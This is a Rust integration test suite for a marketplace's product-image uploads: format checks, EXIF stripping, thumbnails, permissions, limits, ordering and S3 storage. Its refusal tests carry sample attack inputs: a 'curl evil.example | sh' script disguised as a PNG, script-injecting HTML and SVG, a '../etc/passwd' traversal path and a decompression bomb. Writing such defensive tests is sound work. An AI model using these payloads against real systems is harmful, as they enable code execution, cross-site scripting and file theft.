//! Product images through the real binaries: uploads judged by their bytes (JPEG, PNG, WebP;
//! HTML, SVG, a renamed script, a truncated file and a decompression bomb refused with nothing
//! stored), metadata stripped, thumbnails made once each by the processor (also across a
//! kill -9), served by the query API from a local directory and from an S3-compatible server
//! (moto), limits, roles, order, cover and removal.

mod files;
mod support;

use pasar_tests::stack::Stack;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use uuid::Uuid;

use crate::support::{count, listed_product};
use files::{GPS_MARK, bomb, has_exif, jpeg, jpeg_with_gps, png, webp_with_alpha};
use support::{
    Moto, fetch, file, keys_of, media_dir, product_events, stored_files, until_thumbnails, upload,
};

fn ids(body: &Value, field: &str) -> Vec<String> {
    body[field]
        .as_array()
        .unwrap_or_else(|| panic!("{field} in {body}"))
        .iter()
        .map(|i| {
            i.as_str()
                .map_or_else(|| i["id"].to_string(), str::to_owned)
        })
        .map(|s| s.trim_matches('"').to_owned())
        .collect()
}

fn thumbnail(image: &Value, size: u64) -> &Value {
    image["thumbnails"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["size"] == size)
        .unwrap_or_else(|| panic!("no {size} thumbnail in {image}"))
}

/// Checks a served object: content type, nosniff, immutable caching, strong ETag (and 304).
async fn served(stack: &Stack, url: &str, content_type: &str) -> Vec<u8> {
    let (status, headers, bytes) = fetch(stack, url, &[]).await;
    assert_eq!(status, StatusCode::OK, "{url}");
    let header = |name: &str| headers[name].to_str().unwrap().to_owned();
    assert_eq!(header("content-type"), content_type, "{url}");
    assert_eq!(header("x-content-type-options"), "nosniff");
    assert_eq!(
        header("cache-control"),
        "public, max-age=31536000, immutable"
    );
    let etag = header("etag");
    let (again, _, body) = fetch(stack, url, &[("if-none-match", &etag)]).await;
    assert_eq!(again, StatusCode::NOT_MODIFIED, "{url}");
    assert!(body.is_empty());
    bytes
}

#[tokio::test]
async fn jpeg_png_and_webp_are_stored_re_encoded_thumbnailed_and_served_from_a_directory() {
    // Arrange
    let stack = Stack::start().await.unwrap();
    let listed = listed_product(&stack, 75_000, 3).await;
    let gps = jpeg_with_gps(1600, 1200);
    assert!(has_exif(&gps), "the upload carries its EXIF GPS block");
    let uploads = [
        file("holiday.jpg", "image/jpeg", gps),
        file("label.png", "image/png", png(800, 600, 1)),
        file("logo.webp", "image/webp", webp_with_alpha(300, 200)),
    ];

    // Act: the upload, then its retry with the same key.
    let token = Some(listed.seller_token.as_str());
    let (status, first) = upload(&stack, listed.product_id, token, &uploads, Some("up-1")).await;
    let (retry_status, retry) =
        upload(&stack, listed.product_id, token, &uploads, Some("up-1")).await;

    // Assert: recorded once, processing until the thumbnails exist.
    assert_eq!(status, StatusCode::CREATED, "{first}");
    assert_eq!(retry_status, StatusCode::CREATED, "{retry}");
    assert_eq!(ids(&first, "added"), ids(&retry, "added"));
    assert_eq!(ids(&first, "added").len(), 3);
    assert!(first["consistency_token"].is_string());
    let added = product_events(&stack, listed.product_id, "ProductImageAdded").await;
    assert_eq!(added.len(), 3, "{added:?}");
    let types: Vec<&str> = added
        .iter()
        .map(|e| e["content_type"].as_str().unwrap())
        .collect();
    assert_eq!(types, ["image/jpeg", "image/png", "image/webp"]);
    let detail = until_thumbnails(&stack, listed.product_id, 3).await;
    let images = detail["images"].as_array().unwrap();
    assert_eq!(images[0]["cover"], true);
    assert_eq!(
        (images[0]["width"].clone(), images[0]["height"].clone()),
        (json!(1600), json!(1200))
    );
    let sizes = |i: &Value, s: u64| {
        (
            thumbnail(i, s)["width"].clone(),
            thumbnail(i, s)["height"].clone(),
        )
    };
    assert_eq!(sizes(&images[0], 160), (json!(160), json!(120)));
    assert_eq!(sizes(&images[0], 480), (json!(480), json!(360)));
    assert_eq!(sizes(&images[0], 1200), (json!(1200), json!(900)));
    assert_eq!(
        sizes(&images[2], 1200),
        (json!(300), json!(200)),
        "never enlarged"
    );
    assert_eq!(
        product_events(&stack, listed.product_id, "ProductImageThumbnailsMade")
            .await
            .len(),
        3
    );

    // Served: the original re-encoded without its EXIF block, thumbnails in their types.
    let original = served(&stack, images[0]["url"].as_str().unwrap(), "image/jpeg").await;
    assert!(!has_exif(&original), "EXIF (and {GPS_MARK:?}) stripped");
    let decoded = image::load_from_memory(&original).unwrap();
    assert_eq!((decoded.width(), decoded.height()), (1600, 1200));
    served(&stack, images[1]["url"].as_str().unwrap(), "image/png").await;
    served(&stack, images[2]["url"].as_str().unwrap(), "image/webp").await;
    let small = thumbnail(&images[0], 160)["url"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(!has_exif(&served(&stack, &small, "image/jpeg").await));
    served(
        &stack,
        thumbnail(&images[2], 160)["url"].as_str().unwrap(),
        "image/webp",
    )
    .await;

    // The store holds exactly what the product names; listings and search show the cover.
    assert_eq!(stored_files(&media_dir(&stack)), keys_of(&detail));
    let listing = format!(
        "/v1/products?seller={}",
        detail["seller_id"].as_str().unwrap()
    );
    let (_, page) = stack.query(&listing, None, None).await;
    assert_eq!(page["items"][0]["thumbnail_url"], json!(small), "{page}");
    stack
        .eventually("/v1/search?q=kaos", None, |r| {
            r["hits"][0]["thumbnail_url"] == json!(small)
        })
        .await;

    // Unknown or foreign keys are 404 before the store is asked.
    let hash = "0".repeat(64);
    for path in [
        format!("/v1/media/images/{hash}.jpg"),
        format!("/v1/media/other/{hash}.jpg"),
        "/v1/media/images/..%2F..%2Fetc%2Fpasswd".to_owned(),
        format!("/v1/media/images/{hash}.svg"),
    ] {
        let (status, headers, _) = fetch(&stack, &path, &[]).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{path}");
        assert_eq!(headers["content-type"], "application/problem+json");
    }
}

#[tokio::test]
async fn files_that_are_not_images_are_refused_and_nothing_is_stored() {
    // Arrange
    let stack = Stack::start().await.unwrap();
    let listed = listed_product(&stack, 75_000, 3).await;
    let token = Some(listed.seller_token.as_str());
    let good = jpeg(64, 48, 1);
    let truncated = {
        let whole = jpeg(400, 300, 2);
        whole[..whole.len() / 2].to_vec()
    };
    let cases = [
        (
            vec![file(
                "photo.jpg",
                "image/jpeg",
                b"<!doctype html><script>alert(1)</script>".to_vec(),
            )],
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
        ),
        (
            vec![file(
                "logo.svg",
                "image/svg+xml",
                b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"
                    .to_vec(),
            )],
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
        ),
        (
            vec![file(
                "photo.png",
                "image/png",
                b"#!/bin/sh\ncurl evil.example | sh\n".to_vec(),
            )],
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
        ),
        (
            vec![file("cut.jpg", "image/jpeg", truncated)],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            vec![file("bomb.png", "image/png", bomb())],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        // One bad file refuses the good one with it.
        (
            vec![
                file("ok.jpg", "image/jpeg", good),
                file("page.jpg", "image/jpeg", b"<html></html>".to_vec()),
            ],
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
        ),
    ];

    for (files, expected) in cases {
        // Act
        let (status, body) = upload(&stack, listed.product_id, token, &files, None).await;

        // Assert
        assert_eq!(status, expected, "{}: {body}", files[0].name);
        assert!(
            body["title"].is_string() && body["detail"].is_string(),
            "{body}"
        );
    }
    let (status, _, _) = stack
        .command(
            Method::POST,
            &format!("/v1/products/{}/images", listed.product_id),
            token,
            Some(json!({"files": []})),
        )
        .await;
    assert_eq!(
        status,
        StatusCode::UNSUPPORTED_MEDIA_TYPE,
        "JSON is not a form"
    );
    assert_eq!(
        count(&stack, "ProductImageAdded").await,
        0,
        "nothing in the log"
    );
    assert!(
        stored_files(&media_dir(&stack)).is_empty(),
        "nothing in the store"
    );
}

#[tokio::test]
async fn twelve_images_at_most_and_only_the_products_seller_or_an_admin() {
    // Arrange
    let stack = Stack::start().await.unwrap();
    let listed = listed_product(&stack, 75_000, 3).await;
    let (_, other_seller) = stack.register("seller").await;
    let (_, buyer) = stack.register("buyer").await;
    let admin = stack.admin_token().await;
    let one = |seed: u8| vec![file("p.jpg", "image/jpeg", jpeg(40, 30, seed))];
    let many = |n: u8| {
        (0..n)
            .map(|i| file("p.jpg", "image/jpeg", jpeg(40, 30, 100 + i)))
            .collect::<Vec<_>>()
    };
    let product = listed.product_id;
    let owner = Some(listed.seller_token.as_str());

    // Act and assert: who may upload.
    assert_eq!(
        upload(&stack, product, Some(&other_seller), &one(1), None)
            .await
            .0,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        upload(&stack, product, Some(&buyer), &one(1), None).await.0,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        upload(&stack, product, None, &one(1), None).await.0,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        upload(&stack, Uuid::now_v7(), owner, &one(1), None).await.0,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        upload(&stack, product, Some(&admin), &one(2), None).await.0,
        StatusCode::CREATED
    );

    // How many: ten per request, twelve per product.
    assert_eq!(
        upload(&stack, product, owner, &many(11), None).await.0,
        StatusCode::UNPROCESSABLE_ENTITY
    );
    assert_eq!(
        upload(&stack, product, owner, &many(10), None).await.0,
        StatusCode::CREATED
    );
    let (status, full) = upload(&stack, product, owner, &many(2), None).await;
    assert_eq!(status, StatusCode::CONFLICT, "{full}");
    assert_eq!(full["title"], "Too many images");
    assert_eq!(
        upload(&stack, product, owner, &one(3), None).await.0,
        StatusCode::CREATED
    );
    let (status, thirteenth) = upload(&stack, product, owner, &one(4), None).await;
    assert_eq!(status, StatusCode::CONFLICT, "{thirteenth}");
    assert_eq!(count(&stack, "ProductImageAdded").await, 12);
    let detail = until_thumbnails(&stack, product, 12).await;
    // Refused uploads stored nothing: the store holds the twelve and their thumbnails only.
    assert_eq!(stored_files(&media_dir(&stack)), keys_of(&detail));
}

#[tokio::test]
async fn images_are_reordered_their_cover_chosen_and_removed_by_their_seller() {
    // Arrange
    let stack = Stack::start().await.unwrap();
    let listed = listed_product(&stack, 75_000, 3).await;
    let (_, other_seller) = stack.register("seller").await;
    let (_, buyer) = stack.register("buyer").await;
    let owner = Some(listed.seller_token.as_str());
    let files: Vec<_> = (0..3)
        .map(|i| file("p.jpg", "image/jpeg", jpeg(300, 200, i)))
        .collect();
    let (_, body) = upload(&stack, listed.product_id, owner, &files, None).await;
    let [a, b, c]: [String; 3] = ids(&body, "added").try_into().unwrap();
    until_thumbnails(&stack, listed.product_id, 3).await;
    let base = format!("/v1/products/{}/images", listed.product_id);
    let send = |method: Method, path: String, token: Option<String>, body: Option<Value>| {
        let stack = &stack;
        async move {
            let (status, body, _) = stack.command(method, &path, token.as_deref(), body).await;
            (status, body)
        }
    };
    let order_of = |body: &Value| ids(body, "images");
    let detail_order = |token: String| {
        let stack = &stack;
        let path = format!("/v1/products/{}", listed.product_id);
        async move {
            let (_, detail) = stack.query(&path, None, Some(&token)).await;
            detail
        }
    };
    let seller = Some(listed.seller_token.clone());

    // Act and assert: reorder (the first becomes the cover).
    let (status, reordered) = send(
        Method::PUT,
        format!("{base}/order"),
        seller.clone(),
        Some(json!({"image_ids": [c, a, b]})),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{reordered}");
    assert_eq!(order_of(&reordered), [c.clone(), a.clone(), b.clone()]);
    let detail = detail_order(reordered["consistency_token"].as_str().unwrap().to_owned()).await;
    assert_eq!(order_of(&detail), [c.clone(), a.clone(), b.clone()]);
    assert_eq!(detail["images"][0]["cover"], true);
    assert_eq!(
        detail["thumbnail_url"],
        thumbnail(&detail["images"][0], 160)["url"],
        "{detail}"
    );
    for wrong in [
        json!([a, b]),
        json!([a, b, c, a]),
        json!([a, b, Uuid::now_v7()]),
    ] {
        let (status, body) = send(
            Method::PUT,
            format!("{base}/order"),
            seller.clone(),
            Some(json!({"image_ids": wrong})),
        )
        .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    }

    // The cover.
    let (status, covered) = send(
        Method::PUT,
        format!("{base}/cover"),
        seller.clone(),
        Some(json!({"image_id": b})),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{covered}");
    assert_eq!(order_of(&covered), [b.clone(), c.clone(), a.clone()]);
    let keyed = |image: &str, key: &str| {
        let stack = &stack;
        let path = format!("{base}/cover");
        let body = json!({"image_id": image});
        let token = listed.seller_token.clone();
        let key = key.to_owned();
        async move {
            let url = format!("{}{path}", stack.command_url);
            let (status, body, _) = stack
                .send(
                    Method::PUT,
                    url,
                    Some(&token),
                    Some(body),
                    &[("idempotency-key", &key)],
                )
                .await;
            (status, body)
        }
    };
    assert_eq!(keyed(&a, "cover-1").await.0, StatusCode::OK);
    assert_eq!(keyed(&a, "cover-1").await.0, StatusCode::OK, "a retry");
    assert_eq!(
        keyed(&c, "cover-1").await.0,
        StatusCode::UNPROCESSABLE_ENTITY,
        "the key reused"
    );

    // Removal, and who may do any of it.
    let (status, removed) = send(Method::DELETE, format!("{base}/{b}"), seller.clone(), None).await;
    assert_eq!(status, StatusCode::OK, "{removed}");
    assert_eq!(order_of(&removed), [a.clone(), c.clone()]);
    let detail = detail_order(removed["consistency_token"].as_str().unwrap().to_owned()).await;
    assert_eq!(order_of(&detail), [a.clone(), c.clone()]);
    assert_eq!(
        send(Method::DELETE, format!("{base}/{b}"), seller.clone(), None)
            .await
            .0,
        StatusCode::NOT_FOUND
    );
    for (token, expected) in [
        (Some(other_seller), StatusCode::FORBIDDEN),
        (Some(buyer), StatusCode::FORBIDDEN),
        (None, StatusCode::UNAUTHORIZED),
    ] {
        assert_eq!(
            send(Method::DELETE, format!("{base}/{a}"), token.clone(), None)
                .await
                .0,
            expected
        );
        assert_eq!(
            send(
                Method::PUT,
                format!("{base}/cover"),
                token.clone(),
                Some(json!({"image_id": c}))
            )
            .await
            .0,
            expected
        );
        assert_eq!(
            send(
                Method::PUT,
                format!("{base}/order"),
                token,
                Some(json!({"image_ids": [c, a]}))
            )
            .await
            .0,
            expected
        );
    }
    let events: Vec<String> = stack
        .stream_events(&format!("product-{}", listed.product_id))
        .await
        .into_iter()
        .map(|(t, _)| t)
        .filter(|t| t != "ProductImageThumbnailsMade")
        .collect();
    assert_eq!(
        events,
        [
            "ProductListed",
            "ProductImageAdded",
            "ProductImageAdded",
            "ProductImageAdded",
            "ProductImagesReordered",
            "ProductCoverChosen",
            "ProductCoverChosen",
            "ProductImageRemoved"
        ]
    );
}

#[tokio::test]
async fn each_thumbnail_is_made_once_across_a_kill_9_of_the_command_api() {
    // Arrange: ten large images, so their thumbnails take a while.
    let mut stack = Stack::start().await.unwrap();
    let listed = listed_product(&stack, 75_000, 3).await;
    let files: Vec<_> = (0..10)
        .map(|i| file("big.jpg", "image/jpeg", jpeg(2400, 1800, i)))
        .collect();
    let (status, body) = upload(
        &stack,
        listed.product_id,
        Some(&listed.seller_token),
        &files,
        None,
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");

    // Act: kill -9 the command API once the processor has begun, then start it again.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    let made_before = loop {
        let made = count(&stack, "ProductImageThumbnailsMade").await;
        if made >= 1 {
            break made;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no thumbnails were made"
        );
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    };
    stack.kill("command-api");
    let at_kill = count(&stack, "ProductImageThumbnailsMade").await;
    eprintln!("thumbnails recorded when the command API was killed: {at_kill} of 10");
    stack.restart("command-api").await.unwrap();

    // Assert: every image has its thumbnails, each recorded once.
    let detail = until_thumbnails(&stack, listed.product_id, 10).await;
    let made = product_events(&stack, listed.product_id, "ProductImageThumbnailsMade").await;
    let mut images: Vec<&str> = made
        .iter()
        .map(|e| e["image_id"].as_str().unwrap())
        .collect();
    images.sort_unstable();
    images.dedup();
    assert_eq!(
        made.len(),
        10,
        "killed after {made_before} (then {at_kill}): {made:?}"
    );
    assert_eq!(images.len(), 10);
    assert_eq!(stored_files(&media_dir(&stack)), keys_of(&detail));
}

#[tokio::test]
async fn upload_thumbnails_and_serving_work_against_an_s3_compatible_server() {
    // Arrange: moto in server mode with a bucket, and the stack configured for it.
    let Some(moto) = Moto::start().await else {
        return;
    };
    moto.create_bucket("pasar-media").await;
    let stack = Stack::start_with(&[
        ("MEDIA_S3_BUCKET", "pasar-media"),
        ("MEDIA_S3_ENDPOINT", moto.url.as_str()),
        ("AWS_ACCESS_KEY_ID", "pasar-test"),
        ("AWS_SECRET_ACCESS_KEY", "pasar-test-secret"),
        ("AWS_REGION", "us-east-1"),
    ])
    .await
    .unwrap();
    let listed = listed_product(&stack, 75_000, 3).await;
    let token = Some(listed.seller_token.as_str());
    let files = [
        file("holiday.jpg", "image/jpeg", jpeg_with_gps(1000, 750)),
        file("label.png", "image/png", png(500, 400, 4)),
    ];

    // Act
    let (status, body) = upload(&stack, listed.product_id, token, &files, None).await;
    let (refused, _) = upload(
        &stack,
        listed.product_id,
        token,
        &[file("x.jpg", "image/jpeg", b"<svg/>".to_vec())],
        None,
    )
    .await;

    // Assert: in the bucket (and not on disk), thumbnails made, served without EXIF.
    assert_eq!(status, StatusCode::CREATED, "{body}");
    assert_eq!(refused, StatusCode::UNSUPPORTED_MEDIA_TYPE);
    let detail = until_thumbnails(&stack, listed.product_id, 2).await;
    assert_eq!(moto.keys("pasar-media").await, keys_of(&detail));
    assert!(
        stored_files(&media_dir(&stack)).is_empty(),
        "nothing written locally"
    );
    let images = detail["images"].as_array().unwrap();
    let original = served(&stack, images[0]["url"].as_str().unwrap(), "image/jpeg").await;
    assert!(!has_exif(&original));
    served(&stack, images[1]["url"].as_str().unwrap(), "image/png").await;
    served(
        &stack,
        thumbnail(&images[0], 480)["url"].as_str().unwrap(),
        "image/jpeg",
    )
    .await;
    let (missing, _, _) = fetch(
        &stack,
        &format!("/v1/media/thumbs/{}.jpg", "f".repeat(64)),
        &[],
    )
    .await;
    assert_eq!(missing, StatusCode::NOT_FOUND);
}
